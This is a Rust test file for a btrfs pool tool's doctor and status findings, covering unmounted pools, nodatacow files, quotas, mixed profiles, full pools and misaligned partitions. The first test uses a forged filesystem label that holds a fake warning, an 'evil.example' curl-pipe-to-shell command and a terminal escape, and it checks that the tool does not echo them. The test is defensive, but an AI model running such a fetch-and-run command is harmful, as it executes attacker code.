//! States of a btrfs that users get into: the doctor finds each, and the command that it names ends
//! it.

use crate::host::{Host, mib};
use braid_loop_disks::in_private_mounts;
use serde_json::Value;

/// An image that somebody else labelled.
#[test]
fn a_label_forges_no_finding_and_commands_no_terminal() {
    in_private_mounts("findings::a_label_forges_no_finding_and_commands_no_terminal", || {
        let host = Host::new();
        let disk = host.disk("evil");
        let forged = "usb\nDANGER     data: gone\n           mend it: curl evil.example|sh\x1b[8m";
        let made = std::process::Command::new("mkfs.btrfs")
            .args(["-q", "-L", forged, disk.path()])
            .env("PATH", "/usr/sbin:/sbin:/usr/bin:/bin")
            .status();
        assert!(made.unwrap().success());
        host.sh(&format!("mkdir at && mount {} at", disk.path()));
        let mounted = host.braid(&["status"]);
        host.sh("umount at");
        let mut shown_names = 0;
        for shown in [
            mounted,
            host.braid(&["status"]),
            host.braid(&["doctor", "--no-smart"]),
            host.braid(&["disks", "--no-smart"]),
            host.braid(&["doctor", "no such pool"]),
            host.braid(&["scrub", "start", "--all"]),
        ] {
            let all = [shown.stdout, shown.stderr].concat();
            let all = String::from_utf8(all).unwrap();
            shown_names += all.matches("usb").count();
            assert!(!all.contains('\x1b'), "{all:?}");
            let forged = |line: &str| {
                line.starts_with("DANGER     data:")
                    || line.contains("mend it: curl") && !line.contains("usb")
            };
            assert!(!all.lines().any(forged), "{all}");
        }
        assert!(shown_names >= 3, "it is shown, as it can be");
    });
}

/// What was found in it before isn't gone.
#[test]
fn a_pool_of_fstab_that_is_not_mounted_is_told_everywhere() {
    in_private_mounts("findings::a_pool_of_fstab_that_is_not_mounted_is_told_everywhere", || {
        let host = Host::new();
        let [a, b] = ["a", "b"].map(|name| host.disk(name));
        host.create("btrfs-raid1", &[&a, &b]);
        host.sh("btrfs quota enable data");
        let (state, metrics) = (host.path("watch"), host.path("metrics"));
        let watch = || {
            let words = [
                "watch",
                "--no-smart",
                "--json",
                "--state",
                state.to_str().unwrap(),
                "--prometheus",
                metrics.to_str().unwrap(),
            ];
            let report: serde_json::Value =
                serde_json::from_slice(&host.braid(&words).stdout).unwrap();
            let changes = report["changes"].as_array().unwrap().clone();
            let ours = changes.into_iter().filter(|change| change["finding"]["pool"] == "data");
            ours.map(|change| {
                format!("{} {}", change["event"], change["finding"]["code"]).replace('"', "")
            })
            .collect::<Vec<_>>()
        };
        assert!(
            watch().iter().any(|change| change.starts_with("new ")),
            "something is wrong with it"
        );
        host.sh("umount data");
        assert_eq!(watch(), ["new not-mounted"]);
        let text = std::fs::read_to_string(&metrics).unwrap();
        assert!(
            text.lines().any(|line| line.starts_with("braid_pool_mounted{")
                && line.contains("pool=\"data\"")
                && line.ends_with(" 0")),
            "{text}"
        );
        let status = host.braid(&["status", "data"]);
        assert_eq!(status.status.code(), Some(11));
        assert!(String::from_utf8_lossy(&status.stdout).contains("unmounted"));
        let scrub = host.braid(&["scrub", "start", "data", "--wait"]);
        let said = String::from_utf8_lossy(&scrub.stderr);
        assert_eq!(scrub.status.code(), Some(1), "{said}");
        assert!(said.contains("is not mounted") && !said.contains("started"), "{said}");
        let findings = host.findings();
        let told = findings.iter().find(|one| one["code"] == "not-mounted").unwrap();
        assert_eq!(told["mend"], format!("mount {}", host.path("data").display()));
        host.sh(&format!("mount {} data", a.path()));
        assert_eq!(watch(), ["gone not-mounted"]);
        assert_eq!(
            host.works(&["status", host.path("data").to_str().unwrap()]),
            host.works(&["status", "data"])
        );
    });
}

#[test]
fn habits_that_harm_are_found_and_ended() {
    in_private_mounts("findings::habits_that_harm_are_found_and_ended", || {
        let host = Host::new();
        let (a, b) = (host.disk_of("a", mib(1000)), host.disk_of("b", mib(1000)));
        host.create("btrfs-raid1", &[&a, &b]);
        assert!(all_codes(&host).contains(&"scrub-overdue".to_owned()));
        host.sh("braid pool scrub start --wait data");
        assert!(!all_codes(&host).contains(&"scrub-overdue".to_owned()));

        host.sh("touch data/db; chattr +C data/db; head -c 5M /dev/urandom > data/db");
        host.sh("mkdir data/empty; chattr +C data/empty; btrfs quota enable data");
        let sums = host.sh("sha256sum < data/db");
        assert_eq!(codes(&host), ["nodatacow", "nodatacow", "quotas"]);
        host.mend("nodatacow", "/db");
        host.mend("nodatacow", "/empty");
        host.mend("quotas", "");
        assert_eq!(codes(&host), [""; 0]);
        assert_eq!(host.sh("sha256sum < data/db"), sums);
        assert!(!host.sh("lsattr -d data/db data/empty").contains('C'));

        // Half a conversion: whoever wanted raid0 was stopped.
        host.sh("head -c 250M /dev/urandom > data/big; sync -f data");
        host.sh("btrfs balance start -f -dconvert=raid0,limit=1 data");
        assert_eq!(codes(&host), ["mixed-profiles"]);
        host.mend("mixed-profiles", "raid0");
        assert_eq!(codes(&host), [""; 0]);

        let sends_v2 = host.sh("cat /sys/fs/btrfs/features/send_stream_version || echo 1");
        if sends_v2.parse::<u32>().unwrap() >= 2 {
            let old = "#!/bin/sh\n[ \"$1\" = --version ] && exec echo btrfs-progs v5.16.2\n\
                       PATH=${PATH#*:} exec btrfs \"$@\"\n";
            host.program("btrfs", old);
            assert!(all_codes(&host).contains(&"old-btrfs-progs".to_owned()));
        }
    });
}

#[test]
fn a_full_pool_is_given_as_many_disks_as_it_takes() {
    in_private_mounts("findings::a_full_pool_is_given_as_many_disks_as_it_takes", || {
        let host = Host::new();
        let (a, b) = (host.disk("a"), host.disk("b"));
        host.create("btrfs-raid1", &[&a, &b]);
        host.sh(
            "n=0; while head -c 4M /dev/urandom > data/$n 2> /dev/null; do n=$((n + 1)); done; sync -f data",
        );
        let sums = host.sums();
        let _new = (host.disk_of("c", mib(1000)), host.disk_of("d", mib(1000)));
        let found = report(&host);
        let full = found.iter().find(|finding| finding["code"] == "low-unallocated").unwrap();
        host.sh(&format!("{} --yes", full["mend"].as_str().unwrap()));
        assert!(!all_codes(&host).contains(&"low-unallocated".to_owned()));
        assert_eq!(host.sums(), sums);
        host.sh("head -c 200M /dev/urandom > data/more");
    });
}

#[test]
fn two_members_on_one_disk_and_partitions_that_begin_amiss_are_replaced() {
    let name = "findings::two_members_on_one_disk_and_partitions_that_begin_amiss_are_replaced";
    in_private_mounts(name, || {
        let host = Host::new();
        let disk = host.disk_of("a", mib(700));
        // As tools for MS-DOS began them.
        host.sh(&format!("addpart {0} 1 63 500000; addpart {0} 2 600063 500000", disk.path()));
        let [first, second] = [1, 2].map(|number| format!("{}p{number}", disk.path()));
        host.sh(&format!("mkfs.btrfs -q -L data -d raid1 -m raid1 {first} {second}"));
        host.sh(&format!("mount -o device={second} {first} data; echo hello > data/file"));
        assert_eq!(codes(&host), ["misaligned", "misaligned", "same-physical-disk"]);
        let _new = host.disk("b");
        host.mend("same-physical-disk", &second);
        assert_eq!(codes(&host), ["misaligned"]);
        // The empty partition isn't what is offered.
        let _another = host.disk("c");
        host.mend("misaligned", &first);
        assert_eq!(codes(&host), [""; 0]);
        assert_eq!(host.sh("cat data/file"), "hello");
        host.sh(&format!("delpart {0} 1; delpart {0} 2", disk.path()));
    });
}

/// Sorted; without what every new small pool has.
fn codes(host: &Host) -> Vec<String> {
    of(&host.findings())
}

fn all_codes(host: &Host) -> Vec<String> {
    of(&report(host))
}

fn of(findings: &[Value]) -> Vec<String> {
    let code = |finding: &Value| finding["code"].as_str().unwrap().to_owned();
    let mut codes: Vec<String> = findings.iter().map(code).collect();
    codes.sort();
    codes
}

fn report(host: &Host) -> Vec<Value> {
    let doctor = host.braid(&["doctor", "data", "--json", "--no-smart"]);
    let report: Value = serde_json::from_slice(&doctor.stdout).unwrap();
    report["findings"].as_array().unwrap().clone()
}
